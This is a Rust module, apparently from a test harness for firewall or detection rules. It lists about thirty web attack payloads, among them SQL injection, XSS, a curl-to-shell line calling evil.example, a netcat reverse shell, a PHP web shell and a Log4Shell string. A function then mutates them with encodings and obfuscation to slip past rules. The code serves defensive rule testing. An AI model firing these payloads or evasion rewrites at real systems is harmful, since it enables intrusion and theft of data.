//! Attacks, and how they are rewritten to slip past rules: encodings, comments, odd white space, other letters.

use fastrand::Rng;

/// Attacks of the kinds that the rules name, written for this comparison.
pub(super) const ATTACKS: &[&str] = &[
    "1' OR '1'='1' -- ",
    "1 UNION ALL SELECT username, password FROM users",
    "'; DROP TABLE orders; --",
    "1 AND SLEEP(5)",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=confirm(1)>",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x|sh)",
    "`id`",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "http://169.254.169.254/latest/meta-data/",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "__proto__[admin]=1",
    "require('child_process').exec('id')",
    "() { :; }; /bin/bash -c id",
    "%0d%0aSet-Cookie: a=b",
    "java.lang.Runtime.getRuntime().exec",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    "(&(uid=*)(userPassword=*))",
    "exec xp_cmdshell 'dir'",
    "@import 'http://evil.example/a.css'",
    "/bin/cat${IFS}/etc/shadow",
];

/// Rewrites `attack` once to three times.
pub(super) fn rewrite(rng: &mut Rng, attack: &[u8]) -> Vec<u8> {
    let mut value = attack.to_vec();
    for _ in 0..rng.u8(1..=3) {
        value = once(rng, &value);
    }
    value
}

fn once(rng: &mut Rng, value: &[u8]) -> Vec<u8> {
    match rng.u8(0..14) {
        0 => each(rng, value, |rng, byte| if rng.bool() { vec![swapped(byte)] } else { vec![byte] }),
        1 => spaces(rng, value, &[b"\t", b"\n", b"\x0b", b"/**/", b"+", b"%20", b"  ", b"\xc2\xa0"]),
        2 => each(rng, value, |rng, byte| if rng.u8(0..4) == 0 { format!("%{byte:02x}").into() } else { vec![byte] }),
        3 => each(rng, value, |rng, byte| if rng.u8(0..4) == 0 { format!("%25{byte:02X}").into() } else { vec![byte] }),
        4 => {
            each(rng, value, |rng, byte| if rng.u8(0..5) == 0 { format!("%u00{byte:02x}").into() } else { vec![byte] })
        }
        5 => each(rng, value, |rng, byte| if rng.u8(0..5) == 0 { format!("&#x{byte:x};").into() } else { vec![byte] }),
        6 => each(rng, value, |rng, byte| if rng.u8(0..5) == 0 { format!("\\x{byte:02x}").into() } else { vec![byte] }),
        7 => inserted(rng, value, &[b"/**/", b"/*!*/", b"\\", b"''", b"\"\"", b"^", b"$@", b"\0", b"%00"]),
        8 => [b"x".as_slice(), value, b"y"].concat(),
        9 => [b"1".as_slice(), value, b"--+"].concat(),
        // Letters that some decoders take for ASCII: full width forms.
        10 => each(rng, value, |rng, byte| match byte {
            b'!'..=b'~' if rng.u8(0..4) == 0 => {
                let wide = char::from_u32(0xFEE0 + u32::from(byte)).unwrap_or('?');
                wide.to_string().into_bytes()
            }
            _ => vec![byte],
        }),
        11 => {
            let end = rng.usize(..=value.len());
            value[..end].to_vec()
        }
        12 => [value, b"&x=".as_slice(), value].concat(),
        _ => each(rng, value, |rng, byte| if rng.u8(0..20) == 0 { vec![rng.u8(..)] } else { vec![byte] }),
    }
}

fn each(rng: &mut Rng, value: &[u8], change: impl Fn(&mut Rng, u8) -> Vec<u8>) -> Vec<u8> {
    value.iter().flat_map(|byte| change(rng, *byte)).collect()
}

fn spaces(rng: &mut Rng, value: &[u8], others: &[&[u8]]) -> Vec<u8> {
    let other = others[rng.usize(..others.len())];
    value.iter().flat_map(|byte| if *byte == b' ' { other.to_vec() } else { vec![*byte] }).collect()
}

fn inserted(rng: &mut Rng, value: &[u8], what: &[&[u8]]) -> Vec<u8> {
    let at = rng.usize(..=value.len());
    [&value[..at], what[rng.usize(..what.len())], &value[at..]].concat()
}

fn swapped(byte: u8) -> u8 {
    if byte.is_ascii_lowercase() { byte.to_ascii_uppercase() } else { byte.to_ascii_lowercase() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rewriting_changes_most_attacks_and_follows_the_seed() {
        let rewritten = |seed| {
            let mut rng = Rng::with_seed(seed);
            ATTACKS.iter().map(|attack| rewrite(&mut rng, attack.as_bytes())).collect::<Vec<_>>()
        };
        let first = rewritten(1);
        assert_eq!(first, rewritten(1));
        let changed = first.iter().zip(ATTACKS).filter(|(now, then)| now.as_slice() != then.as_bytes()).count();
        assert!(changed > ATTACKS.len() / 2, "{changed}");
    }
}
